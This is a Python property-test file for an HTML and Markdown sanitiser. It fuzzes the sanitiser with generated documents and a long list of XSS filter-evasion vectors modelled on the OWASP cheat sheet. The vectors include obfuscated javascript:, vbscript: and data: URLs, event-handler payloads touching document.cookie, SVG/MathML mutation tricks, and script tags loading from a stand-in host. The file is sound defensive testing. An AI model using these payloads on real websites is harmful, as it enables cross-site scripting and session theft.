"""Properties of the HTML sanitiser over generated documents and known evasion vectors.

Documents come from a small grammar of tags, attributes and URLs that leans on the dangerous
ones, mixed with the filter-evasion vectors below (after the OWASP XSS Filter Evasion Cheat
Sheet, written out here). Whatever goes in, what comes out of ``clean_html`` and
``render_markdown``, read back with ``html.parser``, has only allowed elements, no event
handler attributes, no script-capable URLs, and is a fixed point of cleaning.

Four generated tests × 2,500 examples = 10,000 documents per run, derandomised so CI is stable.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from syndicate.content.sanitize import ALLOWED_TAGS, clean_html, render_body, render_markdown
from tests.depth import examples

# Four properties: 10,000 generated documents a thorough run (CI), 400 a quick one.
EXAMPLES = examples(thorough=2_500, quick=100)
FORBIDDEN_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "frameset",
    "object",
    "embed",
    "applet",
    "svg",
    "math",
    "base",
    "meta",
    "link",
    "form",
    "input",
    "button",
    "textarea",
    "img",
    "video",
    "audio",
    "source",
    "template",
    "noscript",
    "xmp",
    "plaintext",
    "title",
}
URL_ATTRIBUTES = {
    "href",
    "src",
    "cite",
    "action",
    "formaction",
    "background",
    "poster",
    "data",
    "xlink:href",
    "lowsrc",
    "dynsrc",
    "srcset",
}
SAFE_SCHEMES = {"http", "https", "mailto"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.IGNORECASE)
# Characters browsers drop from URLs before reading the scheme (controls, whitespace).
_URL_JUNK = re.compile(r"[\x00-\x20\x7f]+")

# Representative vectors after the OWASP XSS Filter Evasion Cheat Sheet.
XSS_VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<a onmouseover=alert(document.cookie)>xxs link</a>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"'
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert('X')\">x</a>",
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105'
    "&#0000112&#0000116&#0000058alert('X')\">x</a>",
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72'
    '&#x74&#x28&#x27&#x58&#x27&#x29">x</a>',
    "<a href=\"jav\tascript:alert('XSS');\">x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\x00ascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    "<a href=\"java\x00script:alert('XSS')\">x</a>",
    '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=https://xss.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<IMG SRC='vbscript:msgbox(\"XSS\")'>",
    "<a href='vbscript:msgbox(1)'>vb</a>",
    '<svg/onload=alert("XSS")>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD>x</TD></TR></TABLE>",
    "<TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<p style=\"xss:expr/*XSS*/ession(alert('XSS'))\">x</p>",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">data</a>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv'
    'MjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=" type="image/svg+xml"></EMBED>',
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<XML ID=I><X><C><![CDATA[<IMG SRC=\"javas]]><![CDATA[cript:alert('XSS');\">]]></C></X></xml>",
    '<HTML><BODY><?xml:namespace prefix="t"><?import namespace="t" implementation="#default#time2">'
    '<t:set attributeName="innerHTML" to="XSS<SCRIPT DEFER>alert(\'XSS\')</SCRIPT>"></BODY>',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="javascript&colon;alert(1)">colon entity</a>',
    '<a href="javascript&#58alert(1)">no semicolon</a>',
    '<a href="  javascript:alert(1)">leading spaces</a>',
    '<a href="\x01javascript:alert(1)">control</a>',
    '<a href="java&NewLine;script:alert(1)">newline entity</a>',
    '<a href="java&Tab;script:alert(1)">tab entity</a>',
    '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(1)">percent</a>',
    '<a href="javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>">x</a>',
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button>',
    '<a href="https://example.org/" onclick="alert(1)" style="x">ok</a>',
    '<blockquote cite="javascript:alert(1)">quote</blockquote>',
    '<q cite="vbscript:msgbox(1)">q</q>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[x][a]",
    '<h1 onclick="alert(1)">Heading</h1>',
    "<H1>Heading</H1><h1 >x</h1 >",
]


class Inspector(HTMLParser):
    """Collects every element and attribute of a document, as a browser's tokenizer sees it."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        for name, value in attrs:
            self.attributes.append((tag, name, value or ""))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)


def url_scheme(value: str) -> str | None:
    """The scheme a browser would read from an attribute value (already unescaped)."""
    match = _SCHEME.match(_URL_JUNK.sub("", html.unescape(value)))
    return match.group(1).lower() if match else None


def assert_safe(output: str, source: str) -> None:
    """The checks every sanitised document must pass."""
    inspector = Inspector()
    inspector.feed(output)
    inspector.close()
    context = f"\nsource: {source!r}\noutput: {output!r}"
    for tag in inspector.tags:
        assert tag not in FORBIDDEN_TAGS, f"forbidden <{tag}>{context}"
        assert tag in ALLOWED_TAGS, f"unexpected <{tag}>{context}"
    for tag, name, value in inspector.attributes:
        assert not name.startswith("on"), f"handler {name} on <{tag}>{context}"
        assert name != "style", f"style attribute on <{tag}>{context}"
        if name in URL_ATTRIBUTES:
            scheme = url_scheme(value)
            assert scheme is None or scheme in SAFE_SCHEMES, f"{name}={value!r}{context}"
            assert scheme not in {"javascript", "vbscript", "data"}, f"{name}={value!r}{context}"


def assert_clean_is_stable(output: str, source: str) -> None:
    """Cleaning what is already clean changes nothing."""
    again = clean_html(output)
    assert again == output, f"\nsource: {source!r}\nonce:  {output!r}\ntwice: {again!r}"


# --- the grammar ------------------------------------------------------------------------------

TAG_NAMES = sorted(
    ALLOWED_TAGS
    | FORBIDDEN_TAGS
    | {"h1", "div", "span", "details", "body", "html", "xml", "mglyph", "mtext", "foreignObject"}
)
ATTRIBUTE_NAMES = sorted(
    URL_ATTRIBUTES
    | {"title", "scope", "colspan", "rel", "target", "id", "class", "style", "name", "srcdoc"}
    | {"onclick", "onerror", "onload", "onmouseover", "ONFOCUS", "oNtOgGlE", "on", "onx"}
)
SCRIPT_SCHEMES = [
    "javascript:",
    "JaVaScRiPt:",
    "jav\tascript:",
    "jav&#x09;ascript:",
    "jav&#x0A;ascript:",
    "java\x00script:",
    "&#106;avascript:",
    "&#x6A;avascript:",
    "&#0000106;avascript:",
    "javascript&colon;",
    "javascript&#58;",
    " \x01javascript:",
    "vbscript:",
    "VBScript:",
    "data:text/html;base64,",
    "DATA:",
    "data:image/svg+xml,",
    "livescript:",
]
SAFE_URL_STARTS = ["https://example.org/", "http://example.org/a?b=c&d=e", "mailto:a@b.example"]

text = st.lists(
    st.sampled_from([*"abc XYZ<>&\"'=/;:!-\t\n\x00\u00a0é", "&amp;", "&#60;", "&#x3A;"]),
    max_size=20,
).map("".join)
url = st.one_of(
    st.builds(lambda s, rest: s + rest, st.sampled_from(SCRIPT_SCHEMES), text),
    st.builds(lambda s, rest: s + rest, st.sampled_from(SAFE_URL_STARTS), text),
    text,
)
attribute_value = st.one_of(url, text)
quote = st.sampled_from(['"', "'", "", "`"])


@st.composite
def attribute(draw: st.DrawFn) -> str:
    name = draw(st.sampled_from(ATTRIBUTE_NAMES))
    q = draw(quote)
    value = draw(attribute_value)
    separator = draw(st.sampled_from([" ", "/", "\n", "\t", " \x00"]))
    return f"{separator}{name}={q}{value}{q}"


@st.composite
def element(draw: st.DrawFn, children: st.SearchStrategy[str]) -> str:
    tag = draw(st.sampled_from(TAG_NAMES))
    if draw(st.booleans()):
        tag = tag.upper() if draw(st.booleans()) else tag.capitalize()
    attributes = "".join(draw(st.lists(attribute(), max_size=3)))
    inner = "".join(draw(st.lists(children, max_size=3)))
    closing = draw(st.sampled_from([f"</{tag}>", "", f"</{tag} >", f"</{tag}", "</>"]))
    opening_end = draw(st.sampled_from([">", " >", "/>", ""]))
    return f"<{tag}{attributes}{opening_end}{inner}{closing}"


FRAGMENTS = st.sampled_from(
    [
        "<!-- c -->",
        "<!-->",
        "<![CDATA[x]]>",
        "<?xml x?>",
        "<!DOCTYPE html>",
        "<",
        "</",
        "<<",
        "&lt;script&gt;",
        "&#x3C;script&#x3E;",
        "\x00",
    ]
)
leaf = st.one_of(text, FRAGMENTS, st.sampled_from(XSS_VECTORS))
documents = st.recursive(leaf, lambda children: element(children), max_leaves=12).map(str)
html_documents = st.lists(documents, min_size=1, max_size=4).map("".join)
markdown_documents = st.lists(
    st.one_of(
        documents,
        st.builds(lambda t, u: f"[{t}]({u})", text, url),
        st.builds(lambda t, u: f"![{t}]({u})", text, url),
        st.builds(lambda u: f"<{u}>", url),
        st.builds(lambda t, u: f"[{t}]\n\n[{t}]: {u}", text, url),
        st.sampled_from(
            ["\n\n", "# ", "> ", "* ", "1. ", "```\n", "    ", "| a | b |\n|---|---|\n"]
        ),
    ),
    min_size=1,
    max_size=6,
).map("".join)

PROPERTY_SETTINGS = settings(
    max_examples=EXAMPLES,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)


@PROPERTY_SETTINGS
@given(html_documents)
def test_clean_html_output_is_safe(source: str) -> None:
    assert_safe(clean_html(source), source)


@PROPERTY_SETTINGS
@given(html_documents)
def test_clean_html_is_idempotent(source: str) -> None:
    assert_clean_is_stable(clean_html(source), source)


@PROPERTY_SETTINGS
@given(markdown_documents)
def test_render_markdown_output_is_safe(source: str) -> None:
    assert_safe(render_markdown(source), source)


@PROPERTY_SETTINGS
@given(markdown_documents)
def test_render_markdown_output_is_stable_under_cleaning(source: str) -> None:
    assert_clean_is_stable(render_markdown(source), source)


# --- the cheat sheet, one vector at a time ----------------------------------------------------


@pytest.mark.parametrize("vector", XSS_VECTORS)
@pytest.mark.parametrize("body_format", ["html", "markdown"])
def test_evasion_vectors_are_neutralised(vector: str, body_format: str) -> None:
    output = render_body(vector, body_format)
    assert_safe(output, vector)
    assert_clean_is_stable(output, vector)
    # No live tag survives, whatever its spelling (escaped text such as &lt;script is fine).
    assert "<script" not in output.lower()
    assert not re.search(r"<[a-z][^>]*\son[a-z]+\s*=", output, re.IGNORECASE)


def test_the_inspector_catches_what_it_must() -> None:
    # The checks themselves can fail: run them on unsanitised dangerous HTML.
    for dangerous in (
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        "<p onclick=x>y</p>",
        "<svg></svg>",
        '<a href="data:text/html,x">x</a>',
        '<a href="vbscript:x">x</a>',
    ):
        with pytest.raises(AssertionError):
            assert_safe(dangerous, dangerous)


def test_safe_markup_survives() -> None:
    source = '<p>Read <a href="https://example.org/x?a=1&amp;b=2" title="t">this</a>.</p>'
    output = clean_html(source)
    assert 'href="https://example.org/x?a=1&amp;b=2"' in output
    assert 'rel="noopener noreferrer"' in output
    assert "<p>" in output
